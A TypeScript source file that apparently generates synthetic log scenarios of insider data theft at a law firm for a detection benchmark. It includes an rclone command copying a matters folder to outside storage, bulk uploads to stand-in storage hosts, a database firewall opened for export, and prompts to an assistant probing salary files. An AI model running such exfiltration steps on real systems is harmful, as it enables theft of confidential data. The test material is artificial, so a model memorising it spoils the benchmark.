import { apps, strangeAgents } from "./org.ts";
import { hostOf, laptopOf, logon, process, share } from "./rows-host.ts";
import { anomaly, behavior, signIn } from "./rows-identity.ts";
import { azure, web } from "./rows-net.ts";
import { cloud, email, file, label } from "./rows-office.ts";
import type { AttackKind } from "./stage.ts";

const area = "data";

export const dataAttacks: AttackKind[] = [
  { kind: "leaver-takes-files", area, difficulty: "context", types: ["data_exfiltration", "insider_threat"],
    run: (s) => {
    const { w } = s;
    const p = s.who((one) => one.leaves !== undefined && one.leaves >= s.day,
      w.org.people.filter((one) => one.leaves !== undefined));
    s.at("evening", p);
    for (const m of p.matters.slice(0, 4)) for (const name of w.rng.sample(m.files, 20)) {
      s.core(file(w, s.soon(1, 12), p, "FileDownloaded", m, { net: s.home(p), name }));
    }
    s.core(web(w, s.next(), p, { url: "https://upload.boxdrop.example/api", method: "POST", out: w.rng.int(4e8, 2e9),
      net: s.home(p),
      category: "Online Storage" }));
    return {
      subjects: [p.upn],
      summary: "Before the last day someone copied whole matters at home and put them on a private storage.",
    };
  } },
  { kind: "anonymous-link-on-secret", area, difficulty: "context", types: ["policy_violation", "data_exfiltration"],
    run: (s) => {
    const { w } = s;
    const p = s.lawyer();
    const m = w.rng.pick(p.matters.filter((x) => x.label > 1).concat(p.matters));
    const name = w.rng.pick(m.files);
    const net = s.tor();
    s.at("evening", p);
    s.core(file(w, s.next(), p, "AnonymousLinkCreated", m, { name, scope: "Anonymous", net: s.home(p) }));
    for (let n = 0; n < 3; n++) s.core(file(w, s.next(10, 90), { ...p, grade: "guest" }, "AnonymousLinkUsed", m,
      { name, net, managed: false,
      user: "anonymous", ua: strangeAgents[1] ?? "", twin: false,
        columns: { UserType: "Anonymous", UserKey: "anonymous" } }));
    return {
      subjects: [p.upn, name],
      summary: "A link for everybody was made for a secret document and opened through Tor.",
    };
  } },
  { kind: "label-lowered-then-shared", area, difficulty: "context",
    types: ["data_exfiltration", "policy_violation", "insider_threat"], run: (s) => {
    const { w } = s;
    const p = s.lawyer();
    const m = w.rng.pick(p.matters);
    s.at("evening", p);
    for (const name of w.rng.sample(m.files, w.rng.int(4, 7))) {
      s.core(label(w, s.next(), p, m, "LabelDowngraded", 4, 0, { why: "x", name, net: s.home(p) }));
      s.core(file(w, s.next(), p, "SharingInvitationCreated", m,
        { name, with: `${w.rng.hex(6)}@freemail.example`, scope: "Direct", net: s.home(p) }));
    }
    return {
      subjects: [p.upn],
      summary: "Documents were relabelled from the highest level to public and shared with a private address.",
    };
  } },
  { kind: "sync-to-private-computer", area, difficulty: "context", types: ["data_exfiltration", "policy_violation"],
    run: (s) => {
    const { w } = s;
    const p = s.who((one) => ["associate", "paralegal", "accountant"].includes(one.grade));
    const net = s.home(p);
    s.at("night", p);
    signIn(w, s.next(), p, { net, app: apps.sync, mfa: "claim",
      device: { ...p.device, managed: false, id: "", name: "DESKTOP-HOME" } });
    for (const m of p.matters.slice(0, 3)) for (const name of w.rng.sample(m.files, 24)) s.core(file(w, s.soon(1, 4), p,
      "FileSyncDownloadedFull", m,
      { net, name, managed: false, ua: "Microsoft SkyDriveSync 25.149.0803.0003 ship; Windows NT 10.0 (26100)" }));
    return {
      subjects: [p.upn],
      summary: "A private, unmanaged computer synchronised whole matter libraries at night.",
    };
  } },
  { kind: "ethical-wall-crossed", area, difficulty: "hard", types: ["policy_violation", "insider_threat"], span: 3,
    run: (s) => {
    const { w } = s;
    const p = s.who((one) => one.grade === "associate");
    const m = s.foreign(p, (x) => x.walled && x.department !== p.department);
    for (let d = 0; d < 3; d++) {
      s.at("work", p, d);
      for (let n = 0; n < 2; n++) s.core(file(w, s.next(5, 40), p, w.rng.pick(["FileAccessed", "FilePreviewed"]), m,
        { net: p.office.net }));
    }
    return {
      subjects: [p.upn, m.number],
      summary: "An associate of another department read documents of a walled matter in which he has no part.",
    };
  } },
  { kind: "site-owner-made-himself", area, difficulty: "context",
    types: ["insider_threat", "data_exfiltration", "privilege_escalation"], run: (s) => {
    const { w } = s;
    const by = s.admin(w.rng.pick(["SharePoint", "Cloud Engineer"]));
    const board = w.org.sites[2]!;
    s.at("evening", by);
    s.core(file(w, s.next(), by, "SiteCollectionAdminAdded", board, { with: by.upn, net: s.home(by) }));
    for (const name of w.rng.sample(board.files, 14)) s.core(file(w, s.soon(3, 30), by, "FileDownloaded", board,
      { name, net: s.home(by) }));
    file(w, s.next(), by, "SiteCollectionAdminRemoved", board, { with: by.upn, net: s.home(by) });
    return {
      subjects: [by.upn, "partners-board"],
      summary: "An administrator made himself owner of the board's site, took its papers, and removed the right.",
    };
  } },
  { kind: "client-database-exported", area, difficulty: "obvious", types: ["data_exfiltration", "account_compromise"],
    run: (s) => {
    const { w } = s;
    const by = s.admin("Cloud Engineer");
    const net = s.stranger();
    s.at("night", by);
    const database = w.org.resources.find((r) => r.type.startsWith("Microsoft.Sql"))!;
    s.core(azure(w, s.next(), by, "Microsoft.Sql/servers/firewallRules/write",
      { net, scope: database.id.replace(/databases.*/, "firewallRules/tmp"),
      properties: { requestbody: `{"properties":{"startIpAddress":"${net.ip}","endIpAddress":"${net.ip}"}}` } }));
    s.core(azure(w, s.next(), by, "Microsoft.Sql/servers/databases/export/action", { net, resource: database }));
    return {
      subjects: [by.upn, net.ip, "clientdb"],
      summary: "The firewall of the client database was opened for a foreign address and the whole database exported.",
    };
  } },
  { kind: "share-swept-at-night", area, difficulty: "context", types: ["data_exfiltration", "insider_threat"],
    run: (s) => {
    const { w } = s;
    const p = s.who((one) => ["staff", "paralegal", "accountant"].includes(one.grade));
    const host = s.host("file");
    s.at("night", p);
    s.core(logon(w, s.next(), host, p));
    for (let n = w.rng.int(40, 70); n > 0; n--) s.core(share(w, s.soon(1, 9), host, p.sam, p.device.ip,
      w.rng.pick(["Clients$", "Accounts$"]),
      `${w.rng.pick(w.org.matters).number}\\${w.rng.pick(w.rng.pick(w.org.matters).files)}`));
    return {
      subjects: [p.sam, host.name],
      summary: "At night an account read dozens of files of many clients on the file server.",
    };
  } },
  { kind: "private-mail-in-small-doses", area, difficulty: "hard", types: ["data_exfiltration", "insider_threat"],
    span: 9, run: (s) => {
    const { w } = s;
    const p = s.lawyer();
    const to = `${p.name.replace(" ", ".").toLowerCase()}@freemail.example`;
    for (let d = 0; d < 9; d++) {
      if (s.isFree(d)) continue;
      s.at("work", p, d);
      const m = w.rng.pick(p.matters);
      s.core(email(w, s.next(), { from: p.mail, to, sender: p, subject: w.rng.pick(["notes", "for the weekend", "fyi"]),
        direction: "Outbound",
        files: [[w.rng.pick(m.files), w.rng.int(60_000, 800_000)]] }));
    }
    return {
      subjects: [p.upn, to],
      summary: "One document a day went to a private mailbox.",
    };
  } },
  { kind: "guest-takes-whole-matter", area, difficulty: "context", types: ["data_exfiltration", "policy_violation"],
    run: (s) => {
    const { w } = s;
    const p = s.who(() => true, w.org.guests.slice(2));
    const m = p.matters[1] ?? p.matters[0] ?? w.rng.pick(w.org.matters);
    s.at("evening", p);
    for (const name of m.files) s.core(file(w, s.soon(2, 9), p, "FileDownloaded", m,
      { name, net: s.home(p), managed: false }));
    return {
      subjects: [p.mail, m.number],
      summary: "A guest, who reads one or two documents at a time, took the whole matter in one evening.",
    };
  } },
  { kind: "deal-curiosity", area, difficulty: "hard", types: ["insider_threat", "policy_violation"], span: 6,
    run: (s) => {
    const { w } = s;
    const p = s.who((one) => one.department !== "Corporate and M&A"
      && ["associate", "accountant", "paralegal"].includes(one.grade));
    for (let d = 0; d < 6; d++) {
      if (s.isFree(d)) continue;
      s.at("evening", p, d);
      s.core(file(w, s.next(), p, "FilePreviewed", s.foreign(p, (m) => m.department === "Corporate and M&A"),
        { net: s.home(p) }));
    }
    return {
      subjects: [p.upn],
      summary: "Evening after evening somebody outside the deal teams looked into transactions that are not "
        + "announced.",
    };
  } },
  { kind: "upload-to-private-storage", area, difficulty: "obvious", types: ["data_exfiltration", "insider_threat"],
    run: (s) => {
    const { w } = s;
    const p = s.employee();
    s.at("evening", p);
    process(w, s.next(), laptopOf(w, p), p.sam, "C:\\Users\\Public\\rclone.exe",
      "rclone.exe copy D:\\Matters mega:aq --transfers 16",
      "C:\\Windows\\System32\\cmd.exe");
    for (let n = 0; n < 5; n++) s.core(web(w, s.next(), p, { url: `https://g.api.megastore.example/ul/${w.rng.hex(12)}`,
      method: "POST",
      out: w.rng.int(9e8, 4e9), category: "Online Storage", agent: "rclone/v1.68.1", net: s.home(p) }));
    s.core(anomaly(w, s.next(), { person: p }, "Unusual amount of data sent to the Internet", 0.97, "Exfiltration",
      "T1567"));
    return {
      subjects: [p.upn, p.device.name],
      summary: "With a copying tool many gigabytes went to a public storage.",
    };
  } },
  { kind: "labels-stripped-in-bulk", area, difficulty: "obvious",
    types: ["policy_violation", "data_exfiltration", "insider_threat"], run: (s) => {
    const { w } = s;
    const p = s.employee();
    s.at("night", p);
    for (const m of p.matters.slice(0, 3)) for (const name of w.rng.sample(m.files, 16)) {
      s.core(label(w, s.soon(2, 10), p, m, "LabelRemoved", Math.max(3, m.label), undefined,
        { why: "-", name, net: s.home(p) }));
    }
    return {
      subjects: [p.upn],
      summary: "In a few minutes of the night the labels of dozens of confidential documents were removed.",
    };
  } },
  { kind: "assistant-software-asked", area, difficulty: "hard", types: ["insider_threat", "data_exfiltration"],
    run: (s) => {
    const { w } = s;
    const p = s.who((one) => ["staff", "associate"].includes(one.grade));
    s.at("evening", p);
    for (const what of ["salary", "redundancy list", "partner capital", "password"]) s.core(cloud(w, s.next(), p,
      "Microsoft 365 Copilot",
      "CopilotInteraction", { net: s.home(p), object: "Microsoft 365 Chat", type: "Prompt",
        raw: { CopilotEventData: { AppHost: "Office", AccessedResources:
        [{ Name: `${what}.xlsx`, SiteUrl: `${w.org.sites[1]?.url ?? ""}/${what}.xlsx`,
          SensitivityLabelId: w.org.labels[4]?.id, Action: "Read" }] } } }));
    return {
      subjects: [p.upn],
      summary: "Someone had the assistant software search for salaries and lists of redundancies that were shared "
        + "too widely.",
    };
  } },
  { kind: "download-everything-abroad", area, difficulty: "obvious", types: ["account_compromise", "data_exfiltration"],
    run: (s) => {
    const { w } = s;
    const p = s.lawyer();
    const net = s.stranger();
    s.at("night", p);
    signIn(w, s.next(), p, { net, app: apps.sharepoint, mfa: "claim", device: null, risk: "medium",
      riskType: "unfamiliarFeatures" });
    for (const m of p.matters) for (const name of w.rng.sample(m.files, 15)) s.core(file(w, s.soon(0.5, 3), p,
      "FileDownloaded", m, { net, name,
      managed: false, ua: strangeAgents[3] ?? "" }));
    behavior(w, s.next(), p, "FileDownloaded", "FileAccess", net, 8, { FirstTimeUserConnectedFromCountry: "True",
      UncommonHighVolumeOfActions: "True" });
    return {
      subjects: [p.upn, net.ip],
      summary: "A script took all matters of a lawyer from abroad within minutes.",
    };
  } },
  { kind: "payroll-share-read", area, difficulty: "context", types: ["insider_threat", "policy_violation"],
    run: (s) => {
    const { w } = s;
    const p = s.admin("Windows Server");
    const host = hostOf(w, "file");
    s.at("early", p);
    for (let n = w.rng.int(6, 10); n > 0; n--) s.core(share(w, s.next(), host, p.sam, p.device.ip, "Payroll$",
      `2026\\${w.rng.pick(["Partners", "Staff", "Bonus"])}\\${w.rng.pick(["March", "June", "August"])}.xlsx`));
    return {
      subjects: [p.sam, host.name],
      summary: "A server administrator read the payroll with his administration account.",
    };
  } },
];
